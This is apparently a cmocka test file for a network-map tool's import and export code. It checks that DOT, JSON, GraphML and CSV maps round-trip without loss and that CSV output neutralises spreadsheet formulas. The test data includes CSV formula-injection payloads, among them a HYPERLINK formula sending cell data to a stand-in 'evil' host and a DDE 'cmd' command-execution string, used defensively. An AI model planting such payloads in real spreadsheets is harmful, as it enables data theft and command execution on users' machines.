/* Nothing is lost on the way out and back, or in from other tools. */
#include "import_desk.h"

#include "topology/map_edit.h"

/* ---- there and back ---- */

/* What a person hid, and pinned; a member of the cloud by its address. */
static void add_hidden(struct map *m)
{
    struct map_node *n = map_add_node(m, "old");

    n->edit.hidden = n->edit.pinned = n->placed = true;
    n->label = "Old switch, below\n";
    n = map_add_node(m, "host");
    n->address = "192.0.2.77";
    struct map_link *l = map_add_link(m, 0, 3);
    l->id = "l2";
    l->layer = 2;
    l->edit.hidden = true;
}

static void assert_hidden(struct map *m)
{
    const struct map_node *old = node(m, "old"), *host = node(m, "host");

    assert_true(old->edit.hidden && old->edit.pinned);
    assert_false(node(m, "fw")->edit.hidden || node(m, "fw")->edit.pinned);
    assert_true(m->links.at[1].edit.hidden && !m->links.at[0].edit.hidden);
    assert_int_equal(m->links.at[1].layer, 2);
    /* Now, and until its address is another. */
    assert_true(host->joined && strcmp(host->cloud, "~cloud-hall") == 0);
    assert_false(node(m, "sw")->joined);
}

/* An attribute of a person is no other's word for one of ours. */
static void assert_own(const struct map_extras *of, const char *key,
                       const char *value)
{
    for (size_t i = 0; i < of->count; i++)
        if (strcmp(of->at[i].key, key) == 0) {
            assert_string_equal(of->at[i].value, value);
            return;
        }
    fail_msg("no %s", key);
}

static struct map *everything(void)
{
    struct map *m = map_new("plan", MAP_DRAWN);
    struct map_node *n = map_add_node(m, "fw");

    n->label = "Fire \"wall\" <1>, old";
    n->kind = KIND_FIREWALL;
    n->address = "192.0.2.1";
    n->detail = "SRX340";
    n->placed = true;
    n->x = 12.5;
    n->y = -300;
    n->bound = "00112233445566778899aabbccddeeff";
    map_set_extra(m, &n->extras, "rack", "R7");
    /* Names that import knows of other tools. */
    map_set_extra(m, &n->extras, "hostname", "other");
    map_set_extra(m, &n->extras, "type", "leased");
    map_set_extra(m, &n->extras, "x", "9");
    n = map_add_node(m, "sw");
    n->kind = KIND_SWITCH;
    n->placed = true;
    n->cloud = "~cloud-hall";
    n->x = 200;
    n = map_add_node(m, "~cloud-hall");
    n->origin = MAP_CLOUD;
    n->kind = KIND_CLOUD;
    n->label = "Hall";
    n->within = "192.0.2.0/24";
    n->collapsed = true;
    struct map_link *l = map_add_link(m, 0, 1);
    l->id = "l1";
    l->a_port = "eth1";
    l->b_port = "Gi0/1";
    l->kind = LINK_BUNDLE;
    l->speed_bps = 2000000000;
    map_set_extra(m, &l->extras, "fibre", "blue");
    map_set_extra(m, &l->extras, "port", "panel 7");
    map_set_extra(m, &l->extras, "capacity", "1G");
    l->layer = 3;
    add_hidden(m);
    map_set_title(m, "The <plan>");
    map_fold(m);
    return m;
}

static void what_is_exported_comes_back(void **state)
{
    static const struct {
        enum map_import_format format;
        void (*write)(const struct map *, struct buffer *);
        const char *fw;
        bool places, clouds, extras;
    } cases[] = {
        {MAP_FROM_DOT, map_write, "fw", true, true, true},
        {MAP_FROM_JSON, map_write_json, "fw", true, true, true},
        {MAP_FROM_GRAPHML, map_write_graphml, "fw", true, true, true},
        {MAP_FROM_CSV, map_write_csv, "Fire \"wall\" <1>, old", false, false,
         false},
    };

    (void)state;
    for (size_t i = 0; i < COUNT_OF(cases); i++) {
        OWNED(map_free) struct map *m = everything();
        struct buffer OWNED_BUFFER text = {0};

        cases[i].write(m, &text);
        OWNED(map_free) struct map *again = import(cases[i].format, text.at);
        const struct map_node *fw = node(again, cases[i].fw);
        const struct map_link *l = &again->links.at[0];
        assert_string_equal(map_node_label(fw), "Fire \"wall\" <1>, old");
        assert_int_equal(fw->kind, KIND_FIREWALL);
        assert_string_equal(fw->address, "192.0.2.1");
        assert_string_equal(l->a_port, "eth1");
        assert_string_equal(l->b_port, "Gi0/1");
        assert_int_equal(l->kind, LINK_BUNDLE);
        assert_true(l->speed_bps == 2000000000);
        assert_int_equal(fw->placed, cases[i].places);
        if (cases[i].places)
            assert_true(fw->x == 12.5 && fw->y == -300);
        if (cases[i].clouds) {
            const struct map_node *hall = node(again, "~cloud-hall");

            assert_true(hall->origin == MAP_CLOUD && hall->collapsed);
            assert_string_equal(hall->within, "192.0.2.0/24");
            assert_string_equal(node(again, "sw")->cloud, "~cloud-hall");
            assert_true(node(again, "sw")->folded);
            assert_string_equal(fw->bound, "00112233445566778899aabbccddeeff");
        }
        if (cases[i].extras) {
            assert_own(&fw->extras, "rack", "R7");
            assert_own(&fw->extras, "hostname", "other");
            assert_own(&fw->extras, "type", "leased");
            assert_own(&fw->extras, "x", "9");
            assert_int_equal(fw->extras.count, 4);
            assert_own(&l->extras, "fibre", "blue");
            assert_own(&l->extras, "port", "panel 7");
            assert_own(&l->extras, "capacity", "1G");
            assert_int_equal(l->layer, 3);
            assert_string_equal(l->id, "l1");
            assert_string_equal(map_title(again), "The <plan>");
            assert_hidden(again);
        }
        /* Summed links are made anew. */
        for (size_t k = cases[i].extras ? 2 : 1; k < again->links.count; k++)
            assert_true(again->links.at[k].summed > 0);
    }
}

/* A node that is told twice stands where it was said once. */
static void places_of_json_are_turned_once(void **state)
{
    OWNED(map_free)
    struct map *m = import(
        MAP_FROM_JSON, "{\"nodes\":[{\"id\":\"a\",\"x\":1,\"y\":5},"
                       "{\"id\":\"b\",\"x\":1,\"y\":500},{\"id\":\"a\","
                       "\"kind\":\"router\"},{\"id\":\"c\",\"x\":7}],"
                       "\"links\":[{\"a\":\"a\",\"b\":\"b\",\"summed\":2}]}");

    (void)state;
    assert_true(node(m, "a")->y > node(m, "b")->y); /* y is up here */
    assert_int_equal(node(m, "a")->kind, KIND_ROUTER);
    assert_false(node(m, "c")->placed); /* on one axis is nowhere */
    assert_int_equal(m->links.count, 1);
}

/* However many attributes of its own a node has, what we know is taken. */
static void many_attributes_hide_no_label(void **state)
{
    struct buffer OWNED_BUFFER text = {0};

    (void)state;
    buffer_text(&text, "{\"nodes\":[{\"id\":\"a\"");
    for (unsigned i = 0; i < 2 * MAP_EDIT_ATTRIBUTES_MAX; i++)
        buffer_format(&text, ",\"own%u\":\"x\"", i);
    buffer_text(&text,
                ",\"label\":\"A\"}],\"links\":[{\"a\":\"a\",\"b\":\"b\"");
    for (unsigned i = 0; i < 2 * MAP_EDIT_ATTRIBUTES_MAX; i++)
        buffer_format(&text, ",\"own%u\":\"x\"", i);
    buffer_text(&text, ",\"a_port\":\"p\",\"speed\":\"1G\"}]}");
    OWNED(map_free) struct map *m = import(MAP_FROM_JSON, text.at);
    assert_string_equal(node(m, "a")->label, "A");
    assert_int_equal(node(m, "a")->extras.count, MAP_EDIT_ATTRIBUTES_MAX);
    assert_string_equal(m->links.at[0].a_port, "p");
    assert_true(m->links.at[0].speed_bps == 1000000000);
}

/* ---- names in tables ---- */

/* A link between two of such a name, and one without a link, as a table. */
static void write_names(const char *name, struct buffer *out)
{
    OWNED(map_free) struct map *m = map_new("names", MAP_DRAWN);
    struct buffer OWNED_BUFFER other = {0};

    buffer_format(&other, "%s too", name);
    map_add_node(m, "a")->label = name;
    map_add_node(m, "b");
    map_add_node(m, "c")->label = other.at;
    struct map_link *l = map_add_link(m, 0, 1);
    l->a_port = l->b_port = name;
    map_write_csv(m, out);
}

static void any_name_comes_back_from_a_table(void **state)
{
    static const char *const names[] = {
        "#3 core",  "#",    "a,b",
        "\"x\"",    "a;b",  "'x'",
        "=1+1",     "+x",   "-5",
        "@SUM(A1)", "'=1",  "''-x",
        "-",        "-5-x", "=HYPERLINK(\"http://evil/\"&A2,\"core\")",
        "'",        "'-5",  "x\\\"y",
    };

    (void)state;
    for (size_t i = 0; i < COUNT_OF(names); i++) {
        struct buffer OWNED_BUFFER text = {0};
        struct buffer OWNED_BUFFER other = {0};

        write_names(names[i], &text);
        OWNED(map_free) struct map *m = import(MAP_FROM_CSV, text.at);
        assert_int_equal(m->nodes.count, 3);
        assert_int_equal(m->links.count, 1);
        assert_non_null(node(m, names[i]));
        buffer_format(&other, "%s too", names[i]);
        assert_non_null(node(m, other.at));
        assert_string_equal(m->links.at[0].a_port, names[i]);
        assert_string_equal(m->links.at[0].b_port, names[i]);
    }
}

/* A neighbor chooses its name: no program for tables computes it. */
static void no_name_is_a_formula_in_a_table(void **state)
{
    static const char *const names[] = {
        "=1+1", "+x", "-x", "@SUM(A1)", "=cmd|'/c calc'!A1", "=\"x\""};

    (void)state;
    for (size_t i = 0; i < COUNT_OF(names); i++) {
        struct buffer OWNED_BUFFER text = {0};

        write_names(names[i], &text);
        for (const char *c = text.at; *c != '\0'; c++) {
            bool begins = c == text.at || strchr(",\n", c[-1]) != NULL;

            if (begins && strchr("=+-@", c[*c == '"']) != NULL)
                fail_msg("%s", text.at);
        }
    }
}

/* Lines of people that begin with '#' are comments all the same. */
static void comments_in_a_table_are_passed_over(void **state)
{
    OWNED(map_free)
    struct map *m = import(MAP_FROM_CSV, "# my links, \"all\na,b\n#x,y\n"
                                         "\"#x\",y\n\n");

    (void)state;
    assert_int_equal(m->links.count, 1);
    assert_non_null(node(m, "#x"));
}

/* ---- what others write ---- */

/* A box that is opened again is the same box; our words for what people did
 * are words of others like any. */
static void nothing_of_dot_is_lost(void **state)
{
    OWNED(map_free)
    struct map *m =
        import(MAP_FROM_DOT,
               "graph { charset=latin1; subgraph cluster_a { x }\n"
               "subgraph cluster_b { z } subgraph cluster_a { label=A; y }\n"
               "x -- y [edited=true]; y -- z [summed=3]; z -- x [hidden=true]\n"
               "x [removed=true]; y [hidden=true] }");
    struct buffer OWNED_BUFFER text = {0};

    (void)state;
    assert_int_equal(m->nodes.count, 5);
    assert_string_equal(node(m, "x")->cloud, "~cloud-cluster_a");
    assert_string_equal(node(m, "y")->cloud, "~cloud-cluster_a");
    assert_string_equal(node(m, "z")->cloud, "~cloud-cluster_b");
    assert_string_equal(node(m, "~cloud-cluster_a")->label, "A");
    assert_false(node(m, "y")->edit.hidden);
    assert_int_equal(m->links.count, 3);
    assert_false(m->links.at[2].edit.hidden);
    map_write(m, &text); /* in UTF-8 */
    assert_null(strstr(text.at, "latin1"));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_is_exported_comes_back),
        cmocka_unit_test(nothing_of_dot_is_lost),
        cmocka_unit_test(places_of_json_are_turned_once),
        cmocka_unit_test(many_attributes_hide_no_label),
        cmocka_unit_test(any_name_comes_back_from_a_table),
        cmocka_unit_test(no_name_is_a_formula_in_a_table),
        cmocka_unit_test(comments_in_a_table_are_passed_over),
    };

    return cmocka_run_group_tests_name("import_whole", tests, NULL, NULL);
}
